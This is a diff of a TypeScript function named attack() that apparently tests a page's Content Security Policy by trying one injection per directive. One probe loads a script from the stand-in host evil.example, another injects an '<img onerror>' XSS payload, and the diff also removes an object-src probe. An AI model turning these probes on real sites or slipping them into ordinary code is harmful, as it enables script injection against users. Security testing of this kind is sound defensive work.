@@ -29,7 +29,7 @@ async function attack(): Promise<string[]> {
   const add = (name: string, properties: object) =>
     body.append(Object.assign(document.createElement(name), properties));
   const attempts: Record<string, () => unknown> = {
-    'script-src-elem': () => add('script', { src: 'https://evil.example/x.js' }),
+    'script-src-elem': () => import(String('https://evil.example/x.js')),
     'style-src-attr': () => body.setAttribute('style', 'color: red'),
     'style-src-elem': () =>
       document.head.appendChild(document.createElement('style')).append('p{}'),
@@ -43,7 +43,6 @@ async function attack(): Promise<string[]> {
       body.append(form);
       form.submit();
     },
-    'object-src': () => add('object', { data: 'https://evil.example/x.pdf' }),
     'require-trusted-types-for': () => add('p', { innerHTML: '<img src=x onerror=alert(1)>' }),
   };
   const open = new Set(Object.keys(attempts));
